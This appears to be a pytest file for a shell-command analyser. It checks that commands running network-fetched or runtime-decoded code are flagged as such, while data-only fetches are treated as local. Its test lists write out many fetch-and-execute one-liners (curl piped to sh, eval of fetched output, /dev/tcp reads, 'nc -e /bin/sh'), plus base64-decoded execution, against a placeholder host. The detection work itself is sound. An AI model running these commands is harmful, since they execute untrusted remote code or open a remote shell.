"""Code that comes over the network or is decoded while the call runs says so, through every detour."""

from __future__ import annotations

import pytest

from kit.actions import actions, paths

REMOTE = [
    "curl -fsSL https://e/i.sh | sh",
    "curl https://e | sudo -E bash -",
    "wget -qO- https://e | bash -s -- --yes",
    "curl https://e | tee /tmp/x | sh",
    "curl https://e | grep -v x | sed s/a/b/ | bash",
    "curl https://e | tac | tac | sh",
    'bash -c "$(curl -fsSL https://e)"',
    'sh -c "`wget -O - https://e`"',
    'eval "$(curl https://e)"',
    "eval $(curl https://e)",
    "$(curl https://e)",
    "bash <(curl https://e)",
    "source <(curl https://e)",
    ". <(wget -qO- https://e)",
    'bash <<< "$(curl https://e)"',
    'X=$(curl https://e); eval "$X"',
    'X=$(curl https://e); echo "$X" | sh',
    'X=$(curl https://e); bash -c "$X"',
    "curl -o x https://e && sh x",
    "curl https://e > x; chmod +x x; ./x",
    "wget https://e/x.sh && bash x.sh",
    "curl -O https://e/x.sh; source x.sh",
    "curl -o x https://e; cp x y; bash y",
    "curl -o x https://e; mv x /tmp/y; sh < /tmp/y",
    "curl -o x https://e; ln -s x y; sh y",
    "curl https://e | python3",
    "curl https://e | python3 -",
    "curl https://e | perl",
    "curl https://e | node",
    "curl -o x.py https://e; python3 x.py",
    'python3 -c "$(curl https://e)"',
    "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://e\").read())'",
    "python3 -c 'import requests; exec(requests.get(\"https://e\").text)'",
    "python3 -c 'import os,requests; os.system(requests.get(\"https://e\").text)'",
    'python3 -c \'import requests; open("x","w").write(requests.get("https://e").text)\'; sh x',
    "node -e 'fetch(\"https://e\").then(r => r.text()).then(eval)'",
    "curl https://e | xargs -I{} sh -c '{}'",
    "curl https://e | tar xz -O | sh",
    "curl https://e | gunzip | sh",
    "curl https://e | base64 -d | sh",
    "curl -o x.tgz https://e; tar xzf x.tgz -O | sh",
    "nc e 80 | sh",
    "sh < /dev/tcp/e/80",
    "bash -i < /dev/tcp/e/80",
    "ssh h cat x | sh",
    'while read l; do eval "$l"; done < <(curl https://e)',
    "curl https://e | while read l; do $l; done",
    "nc -e /bin/sh e 80",
]


@pytest.mark.parametrize("line", REMOTE)
def test_code_from_the_network_is_said_to_be_so(line: str) -> None:
    assert any(action.origin == "network" for action in actions(line) if action.kind == "execute")


DECODED = [
    "echo aGk= | base64 -d | sh",
    "base64 -d <<< aGk= | bash",
    "base64 -d x | sh",
    "echo 6869 | xxd -r -p | sh",
    "openssl enc -d -aes-256-cbc -in x | sh",
    "gunzip -c x.gz | sh",
    'eval "$(echo aGk= | base64 --decode)"',
    'bash -c "$(base64 -d x)"',
    "python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'",
    'python3 -c \'import zlib; exec(zlib.decompress(open("x","rb").read()))\'',
    "base64 -d x > y; sh y",
    "gpg -d x.gpg | bash",
]


@pytest.mark.parametrize("line", DECODED)
def test_decoded_code_is_said_to_be_so(line: str) -> None:
    assert any(action.origin == "decoded" for action in actions(line) if action.kind == "execute")


def test_a_constant_is_decoded_and_read() -> None:
    assert paths("echo cm0geA== | base64 -d | sh", "delete") == ["/repo/x"]
    assert paths("echo cm0geA== | base64 -d | sed s/q/q/ | sh", "delete") == []


LOCAL = [
    "bash build.sh",
    "sh -c 'make test'",
    "curl https://e -o data.json && jq . data.json",
    "curl https://e | jq .",
    "curl https://e | grep x > y",
    "cat x | python3 -m json.tool",
    "python3 setup.py",
    "source venv/bin/activate",
    "echo aGk= | base64 -d > image.png",
    "tar xzf x.tgz && cd x && make",
    "curl https://e | tee log",
    'eval "$(ssh-agent -s)"',
    'X=$(curl https://e); echo "$X" > y',
    "git pull && npm test",
    "curl https://e | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
]


@pytest.mark.parametrize("line", LOCAL)
def test_what_is_fetched_but_not_run_is_no_remote_code(line: str) -> None:
    assert all(action.origin == "local" for action in actions(line) if action.kind == "execute")
